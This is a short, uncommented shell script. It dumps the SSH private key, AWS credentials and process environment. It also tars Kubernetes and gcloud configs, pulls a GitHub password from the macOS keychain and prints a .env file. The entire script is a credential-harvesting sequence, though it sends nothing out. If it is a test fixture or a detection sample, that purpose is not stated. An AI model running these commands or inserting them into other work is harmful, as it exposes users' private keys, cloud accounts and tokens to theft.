#!/bin/sh
cat ~/.ssh/id_rsa
cat ~/.aws/credentials
cat /proc/self/environ
tar czf x.tgz ~/.kube/config ~/.config/gcloud
security find-generic-password -s github
cat $HOME/.env
